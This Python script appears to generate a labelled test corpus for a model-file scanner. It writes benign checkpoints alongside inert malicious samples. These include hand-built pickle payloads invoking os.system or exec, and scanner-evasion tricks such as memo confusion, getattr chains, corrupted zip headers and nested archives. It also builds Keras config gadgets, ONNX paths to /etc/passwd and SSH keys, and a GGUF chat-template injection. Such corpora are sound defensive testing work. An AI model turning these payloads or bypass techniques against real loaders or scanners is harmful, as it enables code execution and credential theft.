"""Generate the labelled model corpus in this folder with the REAL libraries.

Run from the repository root (never from inside src/, whose gguf.py would shadow
the gguf package):

    pip install torch==2.13.0 numpy joblib scikit-learn pandas onnx h5py gguf \
        safetensors keras tensorboard py7zr
    KERAS_BACKEND=torch python tests/assets/models/generate.py

Benign files are written by torch, numpy, joblib, scikit-learn, pandas, onnx,
h5py, gguf, safetensors and Keras 3 (torch backend) themselves. TensorFlow is
too large to install here, so SavedModel files are built from TensorFlow's own
protobuf schema as shipped in the ``tensorboard`` package (meta_graph_pb2,
graph_pb2) wrapped in the two-field SavedModel message; the result is
byte-for-byte what ``tf.saved_model.save`` writes for the same graph.

Malicious files are INERT (``true``, ``id`` on loopback, ``/nonexistent``
paths) and reproduce published attacks; ``labels.json`` records for each file
its label, the verdict chainward must give, and the source it imitates. Nothing
here is ever loaded by the tests.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import pickle
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path

warnings.filterwarnings("ignore")
HERE = Path(__file__).resolve().parent
BENIGN = HERE / "benign"
MALICIOUS = HERE / "malicious"
LABELS: dict[str, dict[str, str]] = {}


def put(kind: str, name: str, data: bytes, expect: str, source: str) -> Path:
    folder = BENIGN if kind == "benign" else MALICIOUS
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    LABELS[f"{folder.name}/{name}"] = {"label": kind, "expect": expect, "source": source}
    return path


def label(path: Path, kind: str, expect: str, source: str) -> None:
    LABELS[str(path.relative_to(HERE))] = {"label": kind, "expect": expect, "source": source}


# ------------------------------------------------------------------ hand-written pickles


def s4(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def glob0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call0(module: str, name: str, arg: str) -> bytes:
    """Protocol-0 GLOBAL + MARK + STRING + TUPLE + REDUCE."""
    return glob0(module, name) + b"(S'" + arg.encode() + b"'\ntR"


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def benign_pickles() -> None:
    import collections
    import datetime
    import decimal

    import numpy as np

    objs = {
        "stdlib_values.pkl": {
            "when": datetime.datetime(2024, 1, 2, 3, 4, 5),
            "delta": datetime.timedelta(3),
            "price": decimal.Decimal("1.10"),
            "od": collections.OrderedDict(a=1),
            "dd": collections.defaultdict(list, a=[1]),
            "counter": collections.Counter("abca"),
            "set": {1, 2},
            "frozen": frozenset({3}),
            "complex": complex(1, 2),
            "ba": bytearray(b"xy"),
        },
        "numpy_arrays_p2.pkl": [np.arange(6).reshape(2, 3), np.float64(1.5), np.dtype("<f4")],
        "numpy_random.pkl": {"rs": np.random.RandomState(0), "gen": np.random.default_rng(1)},
    }
    for name, obj in objs.items():
        proto = 2 if name.endswith("_p2.pkl") else 4
        put(
            "benign",
            f"pickle/{name}",
            pickle.dumps(obj, protocol=proto),
            "safe",
            "pickle.dumps of standard value types",
        )
    for proto in (0, 1, 5):
        put(
            "benign",
            f"pickle/plain_proto{proto}.pkl",
            pickle.dumps({"a": [1, 2.5, "x", b"y", None, True]}, protocol=proto),
            "safe",
            "pickle.dumps of plain data",
        )


def benign_sklearn() -> None:
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler
    from sklearn.tree import DecisionTreeClassifier

    rng = np.random.RandomState(0)
    x = rng.rand(30, 3)
    y = (x[:, 0] > 0.5).astype(int)
    models = {
        "logreg": LogisticRegression().fit(x, y),
        "forest": RandomForestClassifier(n_estimators=2, max_depth=2, random_state=0).fit(x, y),
        "gboost": GradientBoostingClassifier(n_estimators=2, max_depth=1).fit(x, y),
        "tree": DecisionTreeClassifier(max_depth=2).fit(x, y),
        "knn": KNeighborsClassifier(3).fit(x, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression()).fit(x, y),
    }
    for name, model in models.items():
        put(
            "benign",
            f"sklearn/{name}.pkl",
            pickle.dumps(model, protocol=4),
            "safe",
            "scikit-learn estimator, pickle.dumps",
        )
        buf = io.BytesIO()
        joblib.dump(model, buf)
        put("benign", f"sklearn/{name}.joblib", buf.getvalue(), "safe", "joblib.dump")
    for compress in ("zlib", "gzip", "bz2", "xz", "lzma"):
        path = BENIGN / f"sklearn/forest.joblib.{compress}"
        joblib.dump(models["forest"], path, compress=(compress, 3))
        label(path, "benign", "safe", f"joblib.dump compress={compress}")
    path = BENIGN / "sklearn/arrays_objects.joblib"
    joblib.dump(
        {
            "w": np.ones((4, 4)),
            "names": np.array(["a", None], dtype=object),
            "s": np.arange(3, dtype=np.int16),
        },
        path,
    )
    label(path, "benign", "safe", "joblib.dump with numeric and object arrays")
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", "y"], "c": pd.to_datetime(["2020-01-01"] * 2)})
    put(
        "benign",
        "pandas/frame.pkl",
        pickle.dumps(frame, protocol=5),
        "safe",
        "pandas DataFrame.to_pickle equivalent",
    )


def benign_torch() -> None:
    import torch

    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.LayerNorm(3))
    out = BENIGN / "torch"
    out.mkdir(parents=True, exist_ok=True)
    torch.save(model.state_dict(), out / "state_dict.pt")
    torch.save(
        model.state_dict(), out / "state_dict_legacy.pt", _use_new_zipfile_serialization=False
    )
    torch.save(model, out / "full_model.pt")
    torch.save(
        {
            "epoch": 3,
            "model": model.state_dict(),
            "optim": torch.optim.AdamW(model.parameters()).state_dict(),
            "half": torch.zeros(2, dtype=torch.float16),
            "bf16": torch.zeros(2, dtype=torch.bfloat16),
        },
        out / "checkpoint.pth",
    )
    torch.save(model.state_dict(), out / "renamed_weights.bin")
    torch.jit.save(torch.jit.script(model), out / "torchscript.pt")
    for name in (
        "state_dict.pt",
        "state_dict_legacy.pt",
        "full_model.pt",
        "checkpoint.pth",
        "renamed_weights.bin",
        "torchscript.pt",
    ):
        label(out / name, "benign", "safe", "torch.save / torch.jit.save")


def benign_numpy_safetensors() -> None:
    import numpy as np
    from safetensors.numpy import save as st_save

    buf = io.BytesIO()
    np.save(buf, np.arange(12, dtype=np.float32).reshape(3, 4))
    put("benign", "numpy/array.npy", buf.getvalue(), "safe", "numpy.save")
    buf = io.BytesIO()
    np.save(buf, np.array(["text", 3, None], dtype=object), allow_pickle=True)
    put("benign", "numpy/object_array.npy", buf.getvalue(), "safe", "numpy.save object array")
    buf = io.BytesIO()
    np.savez(buf, a=np.arange(3), b=np.ones(2))
    put("benign", "numpy/arrays.npz", buf.getvalue(), "safe", "numpy.savez")
    buf = io.BytesIO()
    np.savez_compressed(buf, a=np.arange(100))
    put("benign", "numpy/compressed.npz", buf.getvalue(), "safe", "numpy.savez_compressed")
    data = st_save(
        {"w": np.ones((2, 2), dtype=np.float32), "b": np.zeros(3, dtype=np.int64)},
        metadata={"note": "eval( is just text here"},
    )
    put("benign", "safetensors/model.safetensors", data, "safe", "safetensors.numpy.save")


def benign_onnx() -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["h"]), helper.make_node("Relu", ["h"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [weight],
    )
    model = helper.make_model(graph, producer_name="chainward-corpus")
    out = BENIGN / "onnx"
    out.mkdir(parents=True, exist_ok=True)
    onnx.save(model, out / "model.onnx")
    label(out / "model.onnx", "benign", "safe", "onnx.helper + onnx.save")
    ext = out / "external"
    ext.mkdir(exist_ok=True)
    onnx.save(
        model,
        ext / "model.onnx",
        save_as_external_data=True,
        all_tensors_to_one_file=True,
        location="weights.bin",
        size_threshold=0,
    )
    label(ext / "model.onnx", "benign", "safe", "onnx.save with external data (relative)")


def benign_gguf() -> None:
    import gguf
    import numpy as np

    template = (
        "{% for message in messages %}{% if message['role'] not in ['user', 'assistant', "
        "'system'] %}{{ raise_exception('bad role') }}{% endif %}{{ '<|im_start|>' + "
        "message['role'] + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}{% endfor %}"
        "{% set ns = namespace(tools=false) %}{% if tools %}{{ tools | tojson }}{% endif %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
    )
    path = BENIGN / "gguf/chatml.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tokenizer_model("gpt2")
    writer.add_token_list(["<s>", "</s>", "a"])
    writer.add_tensor("w", np.ones((2, 2), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    label(path, "benign", "safe", "gguf.GGUFWriter with a ChatML-style template")


def benign_keras() -> None:
    import h5py
    import keras

    out = BENIGN / "keras"
    out.mkdir(parents=True, exist_ok=True)
    model = keras.Sequential(
        [keras.Input((3,)), keras.layers.Dense(2, activation="relu"), keras.layers.Dense(1)]
    )
    model.compile(optimizer="adam", loss="mse")
    model.save(out / "dense.keras")
    model.save(out / "dense.h5")
    label(out / "dense.keras", "benign", "safe", "keras 3 Model.save (.keras)")
    label(out / "dense.h5", "benign", "safe", "keras 3 legacy HDF5 save")
    config = json.loads(_h5_config(out / "dense.h5"))
    with h5py.File(out / "v2_header_vlen.h5", "w", libver="latest") as f:
        f.attrs["model_config"] = json.dumps(config)  # variable-length string, OHDR header
    label(
        out / "v2_header_vlen.h5",
        "benign",
        "safe",
        "h5py libver=latest: version-2 object header, variable-length string attribute",
    )
    with h5py.File(out / "weights_only.h5", "w") as f:
        f.create_dataset("layer/kernel", data=[[1.0, 2.0]])
    label(out / "weights_only.h5", "benign", "safe", "h5py file without a model config")


def benign_old_library_files() -> None:
    """Files written by old library versions, as shipped in joblib's and numpy's test data."""
    import joblib
    import numpy

    picks = {
        Path(joblib.__file__).parent / "test/data": [
            "joblib_0.10.0_pickle_py27_np17.pkl",
            "joblib_0.11.0_pickle_py36_np111.pkl.xz",
            "joblib_0.9.2_compressed_pickle_py27_np17.gz",
            "joblib_0.10.0_compressed_pickle_py34_np19.gz",
        ],
        Path(numpy.__file__).parent / "lib/tests/data": [
            "py2-objarr.npy",
            "py2-objarr.npz",
            "win64python2.npy",
        ],
    }
    for folder, names in picks.items():
        for name in names:
            src = folder / name
            if src.exists():
                put(
                    "benign",
                    f"old/{name}",
                    src.read_bytes(),
                    "safe",
                    f"{folder.parent.parent.name} test data (BSD-3-Clause), written by an old "
                    "release",
                )


def _h5_config(path: Path) -> str:
    import h5py

    with h5py.File(path, "r") as f:
        value = f.attrs["model_config"]
    return value.decode() if isinstance(value, bytes) else str(value)


def saved_model_bytes(ops: list[str]) -> bytes:
    """saved_model.pb: SavedModel{1: schema version, 2: MetaGraphDef} with TF's own schema."""
    from tensorboard.compat.proto import graph_pb2, meta_graph_pb2

    graph = graph_pb2.GraphDef()
    for i, op in enumerate(
        [
            "Placeholder",
            "Const",
            "SaveV2",
            "RestoreV2",
            "MergeV2Checkpoints",
            "StringJoin",
            "ShardedFilename",
            *ops,
        ]
    ):
        node = graph.node.add()
        node.name = f"n{i}_{op}"
        node.op = op
    meta = meta_graph_pb2.MetaGraphDef()
    meta.meta_info_def.tags.append("serve")
    meta.graph_def.CopyFrom(graph)
    body = meta.SerializeToString()
    return b"\x08\x01" + b"\x12" + _varint(len(body)) + body


def _varint(n: int) -> bytes:
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        out += bytes([byte | (0x80 if n else 0)])
        if not n:
            return out


def benign_tf() -> None:
    path = BENIGN / "tf/saved_model/saved_model.pb"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(saved_model_bytes(["MatMul", "Relu", "Identity"]))
    label(path, "benign", "safe", "SavedModel protobuf (TF schema via tensorboard protos)")


# ------------------------------------------------------------------ malicious


def malicious_pickles() -> None:
    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("true",))

    for proto in (0, 2, 4, 5):
        put(
            "malicious",
            f"pickle/os_system_proto{proto}.pkl",
            pickle.dumps(Evil(), protocol=proto),
            "unsafe",
            "classic __reduce__ -> os.system (every scanner's first test)",
        )
    cases: dict[str, tuple[bytes, str]] = {
        "builtins_exec.pkl": (
            call0("builtins", "exec", "import os; os.system('true')") + b".",
            "exec payload",
        ),
        "py2_builtin_eval.pkl": (
            call0("__builtin__", "eval", "1+1") + b".",
            "Python 2 name __builtin__.eval mapped by fix_imports",
        ),
        "commands_getoutput.pkl": (
            b"\x80\x02" + call0("commands", "getoutput", "true") + b".",
            "sandbox research: torch protocol 2 writes subprocess as commands",
        ),
        "pty_spawn_obj.pkl": (
            b"(cpty\nspawn\nS'true'\no.",
            "trailofbits/fickling#108: OBJ with pty.spawn",
        ),
        "payload_then_garbage.pkl": (
            call0("os", "system", "true") + b"\xff\xfe garbage",
            "research: payload_then_invalid_opcode",
        ),
        "truncated_no_stop.pkl": (call0("os", "system", "true"), "research: truncated_no_stop"),
        "int_0x1_differential.pkl": (
            b"I0x1\n0" + call0("os", "system", "true") + b".",
            "research: INT parsed with base 0 (pickletools stops)",
        ),
        "pip_main.pkl": (call0("pip", "main", "install") + b".", "CVE-2025-1716 (pip.main)"),
        "torch_collect_env_run.pkl": (
            call0("torch.utils.collect_env", "run", "true") + b".",
            "protectai/modelscan#338: torch.utils.collect_env.run",
        ),
        "mp_spawnv_passfds.pkl": (
            glob0("multiprocessing.util", "spawnv_passfds") + b"(S'/bin/true'\n(S'true'\nt)tR.",
            "protectai/modelscan#338: multiprocessing.util.spawnv_passfds",
        ),
        "pandas_read_csv.pkl": (
            call0("pandas.io.parsers.readers", "read_csv", "http://127.0.0.1:9/x.csv") + b".",
            "protectai/modelscan#338: pandas read_csv exfiltration",
        ),
        "mailcap_findmatch.pkl": (
            call0("mailcap", "findmatch", "x") + b".",
            "mmaitre314/picklescan#69: mailcap.findmatch",
        ),
        "ensurepip_run_pip.pkl": (
            call0("ensurepip", "_run_pip", "x") + b".",
            "GHSA-xp4f-hrf8-rxw7 (ensurepip._run_pip)",
        ),
        "timeit_timeit.pkl": (
            call0("timeit", "timeit", "import os; os.system('true')") + b".",
            "GHSA-v7x6-rv5q-mhwc (timeit.timeit)",
        ),
        "asyncio_subprocess.pkl": (
            p4(
                s4("asyncio.unix_events")
                + s4("_UnixSubprocessTransport._start")
                + b"\x93"
                + b"("
                + s4("true")
                + b"t"
                + b"R"
            ),
            "CVE-2025-10157 (asyncio submodule, dotted name)",
        ),
        "numpy_f2py.pkl": (
            call0("numpy.f2py.crackfortran", "getlincoef", "x") + b".",
            "fickling PR #210: numpy.f2py.crackfortran.getlincoef",
        ),
        "shutil_copy.pkl": (
            glob0("shutil", "copy") + b"(S'/nonexistent/a'\nS'/nonexistent/b'\ntR.",
            "google/saferpickle#2: shutil.copy",
        ),
    }
    # computed callees: getattr / importlib / pkgutil / pydoc / operator chains
    cases["getattr_chain.pkl"] = (
        glob0("builtins", "getattr")
        + b"("
        + call0("builtins", "__import__", "os")
        + b"S'system'\ntR(S'true'\ntR.",
        "getattr(__import__('os'), 'system') chain",
    )
    cases["importlib_import_module.pkl"] = (
        glob0("builtins", "getattr")
        + b"("
        + call0("importlib", "import_module", "os")
        + b"S'system'\ntR(S'true'\ntR.",
        "mmaitre314/picklescan#66: importlib.import_module",
    )
    cases["pkgutil_resolve_name.pkl"] = (
        call0("pkgutil", "resolve_name", "os:system") + b"(S'true'\ntR.",
        "GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name universal bypass",
    )
    cases["pydoc_locate.pkl"] = (
        call0("pydoc", "locate", "os.system") + b"(S'true'\ntR.",
        "pydoc.locate indirection",
    )
    cases["operator_attrgetter.pkl"] = (
        call0("operator", "attrgetter", "system")
        + b"("
        + call0("importlib", "import_module", "os")
        + b"tR(S'true'\ntR.",
        "GHSA-m273-6v24-x4m4: operator.attrgetter",
    )
    cases["methodcaller.pkl"] = (
        glob0("operator", "methodcaller")
        + b"(S'system'\nS'true'\ntR("
        + call0("importlib", "import_module", "os")
        + b"tR.",
        "GHSA-955r-x9j8-7rhh: operator.methodcaller",
    )
    # memo confusion: picklescan#22 (memo keyed by previous opcode argument)
    cases["memo_stack_global.pkl"] = (
        p4(
            s4("builtins")
            + b"\x94"
            + s4("len")
            + b"\x94"
            + b"0"
            + b"0"
            + s4("os")
            + b"\x94"
            + s4("system")
            + b"\x94"
            + b"h\x02h\x03\x93"
            + s4("true")
            + b"\x85R"
        ),
        "mmaitre314/picklescan#22: memo confusion with STACK_GLOBAL",
    )
    cases["stack_global_computed_name.pkl"] = (
        b"\x80\x04"
        + glob0("builtins", "getattr")
        + s4("")
        + s4("join")
        + b"\x86R"
        + b"]"
        + s4("o")
        + b"a"
        + s4("s")
        + b"a"
        + b"\x85R"
        + s4("system")
        + b"\x93"
        + s4("true")
        + b"\x85R.",
        "protectai/modelscan#331: computed module name (str.join) for STACK_GLOBAL",
    )
    cases["numpy_builtins_build.pkl"] = (
        b"\x80\x04"
        + s4("numpy")
        + s4("size")
        + b"\x93\x94\x94"
        + s4("numpy")
        + s4("__builtins__")
        + b"\x93\x94\x94"
        + b"h\x01}}"
        + s4("shape")
        + b"h\x03s\x86b"
        + b"h\x01h\x01"
        + s4("eval")
        + b"\x86R"
        + s4("__import__('os').system('true')")
        + b"\x85R.",
        "protectai/modelscan#330: numpy.__builtins__ via BUILD on a global",
    )
    cases["build_setstate_smuggling.pkl"] = (
        glob0("collections", "OrderedDict")
        + b")R"
        + b"(N}S'__setstate__'\n"
        + glob0("os", "system")
        + b"stb"
        + b"S'true'\nb.",
        "protectai/modelscan#85: BUILD plants __setstate__",
    )
    cases["nested_pickle_loads.pkl"] = (
        glob0("pickle", "loads")
        + b"(C"
        + bytes([len(call0("os", "system", "true") + b".")])
        + call0("os", "system", "true")
        + b".tR.",
        "protectai/modelscan#267: nested pickle.loads",
    )
    cases["marshal_function.pkl"] = (
        glob0("types", "FunctionType") + b"(" + glob0("marshal", "loads") + b"(C\x00tR}tR.",
        "mmaitre314/picklescan PR #74: marshal + types.FunctionType",
    )
    cases["ext_code_callee.pkl"] = (
        b"\x80\x02\x82\x07(S'true'\ntR.",
        "EXT1 code resolved through copyreg's registry at load",
    )
    cases["second_stream.pkl"] = (
        pickle.dumps({"ok": 1}, protocol=2) + pickle.dumps(Evil(), 2),
        "payload in a second pickle stream (loaders reading several)",
    )
    for name, (data, source) in cases.items():
        put("malicious", f"pickle/{name}", data, "unsafe", source)
    put(
        "malicious",
        "pickle/renamed_payload.txt",
        pickle.dumps(Evil(), 2),
        "unsafe",
        "CVE-2025-1889/CVE-2025-10155: pickle under a non-model extension",
    )


def malicious_torch() -> None:
    import torch

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            import subprocess

            return (subprocess.run, (["true"],))

    out = MALICIOUS / "torch"
    out.mkdir(parents=True, exist_ok=True)
    state = torch.nn.Linear(2, 2).state_dict()
    torch.save({"model": state, "hook": Evil()}, out / "subprocess_run.pt")
    label(
        out / "subprocess_run.pt",
        "malicious",
        "unsafe",
        "sandbox research: torch proto 2 writes subprocess.run as commands.run",
    )
    torch.save(
        {"model": state, "hook": Evil()},
        out / "legacy_payload.pt",
        _use_new_zipfile_serialization=False,
    )
    label(out / "legacy_payload.pt", "malicious", "unsafe", "legacy (non-zip) torch checkpoint")
    # payload in the legacy sys_info stream (modelscan scans only the first stream)
    raw = (out / "legacy_payload.pt").read_bytes()
    benign_legacy = io.BytesIO()
    torch.save(state, benign_legacy, _use_new_zipfile_serialization=False)
    data = benign_legacy.getvalue()
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    proto = pickle.dumps(1001, protocol=2)
    assert data.startswith(magic + proto)
    sys_info_end = len(magic + proto) + _stream_len(data[len(magic + proto) :])
    evil_sys_info = pickle.dumps(Evil(), protocol=2)
    put(
        "malicious",
        "torch/legacy_sys_info_payload.pt",
        magic + proto + evil_sys_info + data[sys_info_end:],
        "unsafe",
        "research: modelscan reads only the first legacy stream",
    )
    del raw
    # zip tricks on a real checkpoint: bad CRC, local/central name mismatch, renamed file
    evil_zip = (out / "subprocess_run.pt").read_bytes()
    put(
        "malicious",
        "torch/bad_crc.pt",
        _corrupt_crc(evil_zip, "data.pkl"),
        "unsafe",
        "CVE-2025-10156: CRC error stops picklescan, not torch",
    )
    put(
        "malicious",
        "torch/name_mismatch.pt",
        _local_name_mismatch(evil_zip, "data.pkl"),
        "unsafe",
        "CVE-2025-1944: local/central file name mismatch",
    )
    put(
        "malicious",
        "torch/model.safetensors",
        evil_zip,
        "unsafe",
        "CVE-2025-1889: torch zip under another extension",
    )
    # TorchScript-free zip with a differently named pickle member
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("archive/data.pkl", pickle.dumps({"w": 1}, 2))
        z.writestr("archive/extra/weights.bin", pickle.dumps(Evil(), 2))
    put(
        "malicious",
        "torch/hidden_member.pt",
        buf.getvalue(),
        "unsafe",
        "pickle hidden in a non-.pkl member (content sniffing)",
    )


def _stream_len(data: bytes) -> int:
    import pickletools

    for _op, _arg, pos in pickletools.genops(data):
        end = pos
    return end + 1


def _corrupt_crc(data: bytes, member_suffix: str) -> bytes:
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + nlen])
        if name.endswith(member_suffix.encode()):
            crc = struct.unpack_from("<I", buf, pos + 16)[0]
            struct.pack_into("<I", buf, pos + 16, crc ^ 0xFFFF)
            local = struct.unpack_from("<I", buf, pos + 42)[0]
            struct.pack_into("<I", buf, local + 14, crc ^ 0xFFFF)
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def _local_name_mismatch(data: bytes, member_suffix: str) -> bytes:
    buf = bytearray(data)
    pos = buf.find(b"PK\x01\x02")
    while pos >= 0:
        nlen = struct.unpack_from("<H", buf, pos + 28)[0]
        name = bytes(buf[pos + 46 : pos + 46 + nlen])
        if name.endswith(member_suffix.encode()):
            local = struct.unpack_from("<I", buf, pos + 42)[0]
            fake = name[:-3] + b"txt"
            buf[local + 30 : local + 30 + nlen] = fake
        pos = buf.find(b"PK\x01\x02", pos + 4)
    return bytes(buf)


def malicious_containers() -> None:
    import joblib
    import numpy as np

    class Evil:
        def __reduce__(self) -> tuple[object, ...]:
            return (os.system, ("true",))

    payload = pickle.dumps(Evil(), protocol=2)
    buf = io.BytesIO()
    np.save(buf, np.array([Evil()], dtype=object), allow_pickle=True)
    npy = buf.getvalue()
    put("malicious", "numpy/object_payload.npy", npy, "unsafe", "numpy object array payload")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("weights.npy", npy)
    put("malicious", "numpy/object_payload.npz", buf.getvalue(), "unsafe", "npz member payload")
    path = MALICIOUS / "joblib/after_array.joblib"
    path.parent.mkdir(parents=True, exist_ok=True)
    joblib.dump({"w": np.ones((64, 64)), "evil": Evil()}, path)
    label(path, "malicious", "unsafe", "research: genops scanners derail on joblib array bytes")
    path = MALICIOUS / "joblib/after_array.joblib.gz"
    joblib.dump({"w": np.ones((8, 8)), "evil": Evil()}, path, compress=("gzip", 3))
    label(path, "malicious", "unsafe", "compressed joblib payload")
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr("model.bin", payload)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as z:
        z.writestr("inner.zip", inner.getvalue())
    put(
        "malicious",
        "archive/nested.zip",
        outer.getvalue(),
        "unsafe",
        "zip in zip (modelscan stops at one level)",
    )
    tbuf = io.BytesIO()
    with tarfile.open(fileobj=tbuf, mode="w") as tar:
        info = tarfile.TarInfo("model/weights.pkl")
        info.size = len(payload)
        tar.addfile(info, io.BytesIO(payload))
    put("malicious", "archive/model.tar", tbuf.getvalue(), "unsafe", "tar member payload")
    put(
        "malicious",
        "archive/model.tar.gz",
        gzip.compress(tbuf.getvalue()),
        "unsafe",
        "gzip-wrapped tar payload",
    )
    put(
        "malicious",
        "archive/payload.pkl.gz",
        gzip.compress(payload),
        "unsafe",
        "gzip-wrapped pickle",
    )
    try:
        import py7zr

        path = MALICIOUS / "archive/payload.7z"
        with py7zr.SevenZipFile(path, "w") as archive:
            archive.writestr(payload, "model.pkl")
        label(path, "malicious", "unsafe", "7z member payload (picklescan 7z extra)")
    except ImportError:
        pass


def malicious_formats() -> None:
    import keras
    import numpy as np
    from onnx import TensorProto, helper, numpy_helper

    out = MALICIOUS / "keras"
    out.mkdir(parents=True, exist_ok=True)
    model = keras.Sequential(
        [keras.Input((3,)), keras.layers.Dense(2), keras.layers.Lambda(lambda x: x + 0)]
    )
    model.save(out / "lambda.keras")
    model.save(out / "lambda.h5")
    label(out / "lambda.keras", "malicious", "unsafe", "CVE-2024-3660: Lambda bytecode in .keras")
    label(out / "lambda.h5", "malicious", "unsafe", "CVE-2025-9905: Lambda in legacy HDF5")
    import h5py

    with h5py.File(out / "lambda_v2_header.h5", "w", libver="latest") as f:
        f.attrs["model_config"] = _h5_config(out / "lambda.h5")
    label(
        out / "lambda_v2_header.h5",
        "malicious",
        "unsafe",
        "Lambda config in a version-2 object header (variable-length string)",
    )
    benign = (BENIGN / "keras/dense.keras").read_bytes()
    for name, patch, source in (
        (
            "get_file.keras",
            {
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "get_file",
            },
            "CVE-2025-8747: keras.utils.get_file gadget",
        ),
        (
            "unsafe_deser.keras",
            {
                "module": "keras.config",
                "class_name": "function",
                "config": "enable_unsafe_deserialization",
                "registered_name": "enable_unsafe_deserialization",
            },
            "CVE-2025-9906: enable_unsafe_deserialization from config",
        ),
        (
            "os_module.keras",
            {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            },
            "CVE-2025-1550: arbitrary module import from config",
        ),
    ):
        put("malicious", f"keras/{name}", _patch_keras(benign, patch), "unsafe", source)
    weight = numpy_helper.from_array(np.ones((3, 3), dtype=np.float32), "W")
    weight.data_location = TensorProto.EXTERNAL
    entry = weight.external_data.add()
    entry.key, entry.value = "location", "/etc/passwd"
    weight.ClearField("raw_data")
    graph = helper.make_graph(
        [helper.make_node("MatMul", ["x", "W"], ["y"])],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 3])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])],
        [weight],
    )
    put(
        "malicious",
        "onnx/external_absolute.onnx",
        helper.make_model(graph).SerializeToString(),
        "unsafe",
        "ONNX external data with an absolute path (arbitrary file read)",
    )
    entry.value = "../../../../home/user/.ssh/id_rsa"
    put(
        "malicious",
        "onnx/external_traversal.onnx",
        helper.make_model(graph).SerializeToString(),
        "unsafe",
        "ONNX external data escaping the model folder",
    )
    graph2 = helper.make_graph(
        [helper.make_node("PyOp", ["x"], ["y"], domain="ai.onnx.contrib")],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1])],
    )
    put(
        "malicious",
        "onnx/python_op.onnx",
        helper.make_model(graph2).SerializeToString(),
        "unsafe",
        "onnxruntime-extensions PyOp custom operator",
    )
    for name, ops, source in (
        ("read_file", ["ReadFile"], "modelscan/modelaudit SavedModel ReadFile"),
        ("write_file", ["WriteFile"], "SavedModel WriteFile"),
        ("py_func", ["PyFunc"], "tf.py_function in a SavedModel graph"),
    ):
        put("malicious", f"tf/{name}/saved_model.pb", saved_model_bytes(ops), "unsafe", source)
    _gguf_ssti()


def _patch_keras(data: bytes, function_ref: dict[str, object]) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(content)
                layer = config["config"]["layers"][-1]
                layer["config"]["activation"] = function_ref
                content = json.dumps(config).encode()
            dst.writestr(item, content)
    return out.getvalue()


def _gguf_ssti() -> None:
    import gguf
    import numpy as np

    path = MALICIOUS / "gguf/ssti_template.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    template = (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['sys']"
        ".modules['os'].system('true') }}"
    )
    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_chat_template(template)
    writer.add_tensor("w", np.ones(2, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    label(path, "malicious", "unsafe", "CVE-2024-34359 (llama-cpp-python chat template SSTI)")


def main() -> None:
    for folder in (BENIGN, MALICIOUS):
        shutil.rmtree(folder, ignore_errors=True)
        folder.mkdir()
    benign_pickles()
    benign_sklearn()
    benign_torch()
    benign_numpy_safetensors()
    benign_onnx()
    benign_gguf()
    benign_keras()
    benign_tf()
    benign_old_library_files()
    malicious_pickles()
    malicious_torch()
    malicious_containers()
    malicious_formats()
    (HERE / "labels.json").write_text(json.dumps(dict(sorted(LABELS.items())), indent=1) + "\n")
    total = sum(p.stat().st_size for p in HERE.rglob("*") if p.is_file())
